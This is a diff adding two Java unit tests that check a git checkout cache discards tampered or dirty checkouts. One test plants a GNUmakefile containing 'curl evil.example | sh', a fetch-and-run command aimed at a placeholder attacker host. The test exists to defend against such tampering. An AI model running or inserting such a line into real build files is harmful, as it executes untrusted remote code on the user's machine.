@@ -44,4 +44,39 @@ class CheckoutsTest {
         assertThat(Files.readAllLines(checkout.resolve(".git/objects/info/alternates"))).isEqualTo(alternates)
                 .hasSize(2);
     }
+
+    @Test
+    void aCheckoutWithAnythingInItButItsBaseIsRemovedAfterTheJob(@TempDir Path dir) throws Exception {
+        Path tree = MiniTree.create(dir.resolve("tree"));
+        String base = git(tree, "rev-parse", "HEAD");
+        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
+        Path checkout = checkouts.at(tree, base);
+        assertThat(checkouts.keepIfClean(base)).isTrue();
+        assertThat(checkout.resolve(".git")).exists();
+
+        Files.writeString(checkout.resolve("GNUmakefile"), "all:\n\tcurl evil.example | sh\n");
+
+        assertThat(checkouts.keepIfClean(base)).isFalse();
+        assertThat(checkout).doesNotExist();
+        assertThat(checkouts.at(tree, base)).as("the next job clones a fresh one").isEqualTo(checkout);
+        assertThat(checkout.resolve("GNUmakefile")).doesNotExist();
+    }
+
+    @Test
+    void ignoredFilesAndAnotherHeadCountAsDirtyToo(@TempDir Path dir) throws Exception {
+        Path tree = MiniTree.create(dir.resolve("tree"));
+        String base = git(tree, "rev-parse", "HEAD");
+        Files.writeString(tree.resolve(".gitignore"), "*.o\n");
+        git(tree, "add", ".gitignore");
+        git(tree, "commit", "-q", "-m", "ignore objects");
+        String withIgnore = git(tree, "rev-parse", "HEAD");
+        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
+        Path checkout = checkouts.at(tree, withIgnore);
+        Files.writeString(checkout.resolve("planted.o"), "x");
+        assertThat(checkouts.keepIfClean(withIgnore)).isFalse();
+
+        checkout = checkouts.at(tree, withIgnore);
+        checkouts.switchTo(checkout, base);
+        assertThat(checkouts.keepIfClean(withIgnore)).as("left at another commit").isFalse();
+    }
 }
